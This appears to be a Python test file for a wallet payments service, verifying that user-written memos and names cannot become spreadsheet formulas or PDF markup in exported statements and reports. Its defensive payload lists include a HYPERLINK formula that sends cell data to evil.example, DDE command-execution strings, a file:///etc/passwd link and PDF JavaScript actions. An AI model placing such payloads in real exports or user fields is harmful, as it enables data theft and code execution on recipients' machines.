"""Injection: user-supplied text becomes a formula or markup in an exported file."""

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

import tapgate
from builders.branding import BRANDING
from builders.statements import build_statement, get_statement
from business.payments.wallets.pdf_text import extract_pages
from cases import each
from harness import PIN, Harness
from tapgate.business.finance.reports import pdf_table
from tapgate.business.finance.reports.documents import Column, Document
from tapgate.business.payments.wallets.statements import csv_file, pdf_file

FORMULA_CHARACTERS = "=+-@\t\r＝＋－＠"
NUMBER_PATTERN = re.compile(r"-?[0-9]+\.[0-9]{2}(,.*)?", re.DOTALL)
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    "a;=1+1",
    'a;"=1+1"',
    'a;""=1+1',
    "a; =1+1",
    "a\t=1+1",
    'a","=1+1',
    '"=1+1',
    "a;;;-1",
    "＝1+1",
]


def split_cells(content: str, separator: str) -> list[str]:
    """Split a CSV file into cells with a given spreadsheet locale's separator."""
    text = content.removeprefix("\ufeff")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [cell for row in reader for cell in row]


def is_safe_cell(cell: str) -> bool:
    return (
        not cell.strip(" ").startswith(tuple(FORMULA_CHARACTERS))
        or NUMBER_PATTERN.fullmatch(cell) is not None
    )


def render_csv_text(memo: str, name: str = "Mohamed S.") -> str:
    movement = build_statement(1).movements[0]._replace(memo=memo, counterparty=name, amount=-7)
    return csv_file.render(build_statement(0, movements=[movement], opening_balance=-1000)).decode()


@given(st.text(st.sampled_from(list(FORMULA_CHARACTERS + ";,|\n\"' a1()"))))
def test_no_csv_cell_is_a_formula_under_any_separator(text: str) -> None:
    """A memo is written by one person and opened by another in a spreadsheet.

    Depending on the locale, a comma, semicolon, or tab separates cells.
    """
    content = render_csv_text(text, name=text)
    for separator in (",", ";", "\t"):
        assert all(is_safe_cell(cell) for cell in split_cells(content, separator)), separator


async def test_sender_memo_is_harmless_in_the_recipient_csv_statement(harness: Harness) -> None:
    """End to end, from the transfer to the downloaded file."""
    sender = await harness.create_subscriber(balance="100")
    receiver = await harness.create_subscriber()
    card = await harness.create_card(receiver["id"])
    for payload in FORMULA_PAYLOADS:
        body = {
            "sender_id": sender["id"],
            "recipient_card_serial": card,
            "amount": "1",
            "pin": PIN,
            "memo": payload,
        }
        url = "/api/v1/wallet/transfer-p2p"
        response = await harness.post(url, json=body, auth=harness.get_service_auth())
        assert response.status_code in (200, 403, 422), response.text
    key = await harness.create_api_key("payments:read")
    statement = await get_statement(harness, key, receiver, format="csv")
    file = await harness.get(
        statement["statement_url"].removeprefix(harness.services.settings.public_url)
    )
    assert statement["transaction_count"] >= 10
    for separator in (",", ";", "\t"):
        assert all(is_safe_cell(cell) for cell in split_cells(file.text, separator))


MARKUP_PAYLOADS = [
    "<b>bold</b>",
    '<font size="99">',
    '<img src="http://127.0.0.1/x"/>',
    '<a href="file:///etc/passwd">x</a>',
    "<para><unichar code='65'/></para>",
    "&lt;&amp;&#65;",
    ") Tj ET q 1 0 0 RG (x",
    "\\) Tj \\101",
    "endstream endobj 1 0 obj",
    "/OpenAction /JavaScript (app.alert(1))",
    "{{7*7}} ${7*7} %s %(x)s {0}",
]


@each("text", MARKUP_PAYLOADS)
def test_name_and_memo_are_rendered_literally_in_the_pdf(text: str) -> None:
    """Interpreting user text as paragraph markup would let it load images and read server files."""
    movement = build_statement(1).movements[0]._replace(memo=text, counterparty="X")
    pdf = pdf_file.render(build_statement(0, movements=[movement], holder_name=text), BRANDING)
    (page,) = extract_pages(pdf)
    assert text in page
    assert any(line.startswith(movement.description[:30]) for line in page)
    assert pdf.count(b" obj\n") == pdf_file.render(build_statement(1), BRANDING).count(b" obj\n")
    for word in (b"/JavaScript", b"/OpenAction", b"/URI", b"/Launch", b"/EmbeddedFile"):
        assert word not in pdf.replace(b"/OpenAction /JavaScript \\(", b"")


@each("text", MARKUP_PAYLOADS)
def test_report_is_rendered_literally_in_the_pdf(text: str) -> None:
    """Reports contain the names of owners and the descriptions that staff and banks write."""

    def render(value: str) -> bytes:
        columns = (Column("description", "Description", 1),)
        return pdf_table.render(Document(value, value, "SLE", columns, [[value]]), BRANDING)

    pdf = render(text)
    (page,) = extract_pages(pdf)
    assert page.count(text) == 2  # title and cell
    assert f"{text} · SLE" in page
    assert pdf.count(b" obj\n") == render("harmless").count(b" obj\n")
    for word in (b"/URI", b"/Launch", b"/EmbeddedFile"):
        assert word not in pdf


def test_csv_and_pdf_files_are_written_only_in_the_tested_modules() -> None:
    """The tests above do not cover files that another module writes."""
    root = Path(tapgate.__file__).parent
    sources = {file.relative_to(root).as_posix(): file.read_text() for file in root.rglob("*.py")}
    csv_pattern = re.compile(r"csv\.(Dict)?[wW]riter|from csv import")
    pdf_pattern = re.compile(r"(import|from) reportlab")
    statements = "business/payments/wallets/statements"
    expected = {"http/api/csv_files.py"}
    assert {name for name, text in sources.items() if csv_pattern.search(text)} == expected
    assert {name for name, text in sources.items() if pdf_pattern.search(text)} == {
        "business/finance/reports/pdf_table.py",
        f"{statements}/pdf_file.py",
        f"{statements}/typesetting.py",
    }
    # platypus interprets markup in paragraphs.
    assert not [name for name, text in sources.items() if "platypus" in text]
